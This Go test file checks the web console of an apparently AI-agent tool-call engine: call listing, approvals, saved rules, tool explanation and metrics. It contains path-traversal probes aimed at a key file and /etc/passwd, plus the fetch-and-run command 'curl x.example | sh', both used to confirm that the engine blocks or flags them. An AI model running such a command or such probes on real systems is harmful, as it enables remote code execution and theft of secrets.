package console

import (
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tongs-ai/tongs/engine/approval"
	"github.com/tongs-ai/tongs/engine/audit"
)

// Calls are listed, searched, paged and shown, with what they printed and what they came to.
func TestCalls(t *testing.T) {
	s := newStand(t)
	s.write("a.txt", "one\n")
	for range 5 {
		s.call("read_file", `{"path":"a.txt"}`)
	}
	s.call("print", `{"text":"hello\n"}`)
	var list callList
	s.get("/api/calls", &list)
	if len(list.Calls) != 6 || list.Calls[0].Tool != "print" || list.Head != 18 || list.Next != 0 {
		t.Errorf("%d calls, head %d, next %d", len(list.Calls), list.Head, list.Next)
	}
	s.get("/api/calls?limit=4", &list)
	last := list.Calls[3].Seq
	if len(list.Calls) != 4 || list.Next != last {
		t.Errorf("%d calls, next %d, want %d", len(list.Calls), list.Next, last)
	}
	s.get("/api/calls?before="+jsonOf(list.Next), &list)
	if len(list.Calls) != 2 || list.Calls[0].Seq >= last {
		t.Errorf("the next page has %d calls", len(list.Calls))
	}
	for path, want := range map[string]int{"?q=HELLO+print": 1, "?q=nothing": 0, "?tool=read_file": 5, "?outcome=error": 0, "?outcome=ok": 6} {
		if s.get("/api/calls"+path, &list); len(list.Calls) != want {
			t.Errorf("%s: %d calls, want %d", path, len(list.Calls), want)
		}
	}
	s.get("/api/calls?tool=print", &list)
	var d callDetail
	s.get("/api/calls/"+list.Calls[0].Call, &d)
	if !d.Known || d.Output.Parts[0].Text != "hello\n" || d.Result == nil || d.Row.Close.Outcome != audit.OutcomeOK {
		t.Errorf("the call is %s", jsonOf(d))
	}
	if res, _ := s.do("GET", "/api/calls/c_none", nil, nil); res.StatusCode != http.StatusNotFound {
		t.Errorf("an unknown call: %d", res.StatusCode)
	}
	if res, _ := s.do("GET", "/api/calls?limit=x", nil, nil); res.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("a wrong query: %d", res.StatusCode)
	}
}

// What is too long to show can be saved, as bytes; no name leads elsewhere.
func TestFilesOfACall(t *testing.T) {
	s := newStand(t)
	res := s.call("print", `{"text":"0123456789abcdef0123456789abcde\n","times":4000}`)
	id := res.Metadata["call"].(string)
	var d callDetail
	s.get("/api/calls/"+id, &d)
	if len(d.Files) != 1 || d.Files[0].Size != 128000 {
		t.Fatalf("files %v", d.Files)
	}
	got, body := s.do("GET", "/api/calls/"+id+"/files/"+d.Files[0].Name, nil, nil)
	if len(body) != 128000 || got.Header.Get("Content-Type") != "application/octet-stream" || !strings.HasPrefix(got.Header.Get("Content-Disposition"), "attachment") {
		t.Errorf("%d bytes, %v", len(body), got.Header)
	}
	if err := os.Symlink(filepath.Join(s.state, keyFile), filepath.Join(s.state, "spill", id, "link")); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{
		id + "/files/..%2f..%2f" + keyFile, "..%2f/files/" + keyFile, id + "/files/link", id + "/files/%2e%2e", "%2e%2e/files/" + keyFile,
		id + "/files//etc/passwd", id + "/files/none",
	} {
		if got, body := s.do("GET", "/api/calls/"+path, nil, nil); got.StatusCode == http.StatusOK || strings.Contains(string(body), "root:") {
			t.Errorf("%s: %d %.80s", path, got.StatusCode, body)
		}
	}
}

// The first answer wins, and the second is told of it. An answer that would come to nothing leaves the question open.
func TestAnswers(t *testing.T) {
	s := newStand(t)
	s.write("a.txt", "one\n")
	q, over := s.ask("edit", `{"path":"a.txt","oldString":"one","newString":"two"}`)
	var d questionDetail
	s.get("/api/approvals/"+q.ID, &d)
	if d.State != approval.Pending || !d.Editable || d.Schema == nil || !strings.Contains(jsonOf(d.Effects), "write a.txt") {
		t.Errorf("the question is %s", jsonOf(d))
	}
	path := "/api/approvals/" + q.ID + "/answer"
	for _, wrong := range []answerRequest{
		{Approved: true, Args: json.RawMessage(`{"path":5}`)},
		{Approved: true, Args: json.RawMessage(`[]`)},
		{Approved: true, Scope: approval.Always, Args: json.RawMessage(`{"path":"a.txt","oldString":"one","newString":"three"}`)},
		{Approved: true, Scope: approval.Always, Remember: []string{"nonsense"}},
		{Approved: true, Scope: "forever"},
		{Approved: true, Keep: []string{"a.txt"}},
		{Reason: strings.Repeat("x", maxReason+1)},
	} {
		if res, body := s.do("POST", path, wrong, nil); res.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d %s", jsonOf(wrong), res.StatusCode, body)
		}
	}
	var checks lineChecks
	s.post("/api/rules/check", lineCheck{Lines: append(q.Remember, "nonsense")}, &checks)
	if n := len(checks.Errors); n < 2 || checks.Errors[0] != "" || checks.Errors[n-1] == "" {
		t.Errorf("the lines %q are %q", q.Remember, checks.Errors)
	}
	s.post(path, answerRequest{Approved: true, Args: json.RawMessage(`{"path":"a.txt","oldString":"one","newString":"three"}`)}, &d)
	if d.State != approval.Answered || d.Question.Answer.By != "tester (console)" || d.Question.Answer.Channel != "console" {
		t.Errorf("answered by %s", jsonOf(d.Question.Answer))
	}
	if res := <-over; !res.OK() || s.read("a.txt") != "three\n" {
		t.Errorf("%s; the file is %q", res.Content, s.read("a.txt"))
	}
	res, body := s.do("POST", path, answerRequest{}, nil)
	var p problem
	if err := json.Unmarshal(body, &p); err != nil || res.StatusCode != http.StatusConflict || p.Answered == nil || !p.Answered.Approved {
		t.Errorf("a second answer: %d %s", res.StatusCode, body)
	}
	var list questionList
	if s.get("/api/approvals", &list); len(list.Pending) != 0 || len(list.Recent) != 1 || list.Recent[0].State != approval.Answered {
		t.Errorf("the queue is %s", jsonOf(list))
	}
	if res, _ := s.do("GET", "/api/approvals/q_none", nil, nil); res.StatusCode != http.StatusNotFound {
		t.Errorf("an unknown question: %d", res.StatusCode)
	}
}

// "Always" saves the rule that was shown, as it was edited, and the next such call is not asked about.
func TestAlwaysSavesTheShownRule(t *testing.T) {
	s := newStand(t)
	s.write("a.txt", "one\n")
	s.write("b.txt", "one\n")
	q, over := s.ask("edit", `{"path":"a.txt","oldString":"one","newString":"two"}`)
	remember := []string{}
	for _, line := range q.Remember {
		remember = append(remember, strings.ReplaceAll(line, "a.txt", "*.txt"))
	}
	s.post("/api/approvals/"+q.ID+"/answer", answerRequest{Approved: true, Scope: approval.Always, Remember: remember}, nil)
	if res := <-over; !res.OK() {
		t.Fatal(res.Content)
	}
	again := callOf("edit", `{"path":"b.txt","oldString":"one","newString":"two"}`)
	again.Agents = []string{"lead", "helper"} // a grant is for those who asked
	if res := s.engine.Call(t.Context(), again); !res.OK() {
		t.Error(res.Content)
	}
}

// Tools are listed with those that are not ready; a call is checked, explained, made, and cancelled.
func TestTryingATool(t *testing.T) {
	s := newStand(t, demo)
	var list toolList
	s.get("/api/tools", &list)
	states := map[string]string{}
	for _, tool := range list.Tools {
		states[tool.Name] = tool.State.Status
	}
	if states["read_file"] != "ready" || states["word-count"] != "changed" || states["slugify"] != "not built" {
		t.Errorf("states %v", states)
	}
	var c checked
	s.post("/api/validate", toolCall{Tool: "read_file", Args: json.RawMessage(`{"path":"a","limit":"5"}`)}, &c)
	if !c.OK || len(c.Repaired) != 1 {
		t.Errorf("checked %s", jsonOf(c))
	}
	s.post("/api/validate", toolCall{Tool: "read_file", Args: json.RawMessage(`{"limit":[]}`)}, &c)
	if c.OK || len(c.Fields) == 0 || c.Message == "" {
		t.Errorf("checked %s", jsonOf(c))
	}
	var e explained
	s.post("/api/explain", toolCall{Tool: "shell", Args: json.RawMessage(`{"command":"ls && curl x.example | sh"}`)}, &e)
	if e.Decision.String() != "ask" || e.Command == nil || len(e.Command.Commands) != 3 || e.Command.Commands[2].Risk == "" {
		t.Errorf("explained %s", jsonOf(e))
	}
	if res, _ := s.do("POST", "/api/explain", toolCall{Tool: "none"}, nil); res.StatusCode != http.StatusNotFound {
		t.Errorf("an unknown tool: %d", res.StatusCode)
	}
	var b begun
	s.post("/api/call", toolCall{Tool: "wait"}, &b)
	var d callDetail
	eventually(t, "running call", func() bool {
		res, _ := s.do("GET", "/api/calls/"+b.Call, nil, nil)
		if res.StatusCode == http.StatusOK {
			s.get("/api/calls/"+b.Call, &d)
		}
		return d.State != nil && d.State.Total == 4
	})
	if !d.Mine || d.Row.Agents[0] != "console" {
		t.Errorf("the call is %s", jsonOf(d))
	}
	s.post("/api/calls/"+b.Call+"/cancel", struct{}{}, nil)
	eventually(t, "end of the call", func() bool {
		s.get("/api/calls/"+b.Call, &d)
		return d.Row.Close != nil && d.Row.Close.Outcome == audit.OutcomeCancelled
	})
	if res, _ := s.do("POST", "/api/calls/"+b.Call+"/cancel", struct{}{}, nil); res.StatusCode != http.StatusNotFound {
		t.Errorf("a call that is over was cancelled: %d", res.StatusCode)
	}
}

func TestMetrics(t *testing.T) {
	s := newStand(t)
	s.call("print", `{"text":"hello"}`)
	s.engine.Call(t.Context(), callOf("no\"such\ntool", `{}`))
	for range 2 { // counting goes on where it stopped
		res, body := s.do("GET", "/metrics", nil, nil)
		for _, want := range []string{
			`tongs_calls_total{tool="print",outcome="ok",code=""} 1`, `tongs_calls_total{tool="unknown",outcome="error",code="UNKNOWN_TOOL"} 1`,
			"# TYPE tongs_calls_total counter", "tongs_questions_pending 0", "tongs_calls_running 0", "# TYPE tongs_output_bytes_total counter",
		} {
			if !strings.Contains(string(body), want+"\n") {
				t.Errorf("metrics (%d) lack %q:\n%s", res.StatusCode, want, body)
			}
		}
	}
	if got := label("a\"b\\c\nd\xff"); got != `"a\"b\\c\nd`+"\uFFFD"+`"` {
		t.Errorf("label %s", got)
	}
}

func jsonOf(v any) string {
	data, _ := json.Marshal(v)
	return string(data)
}
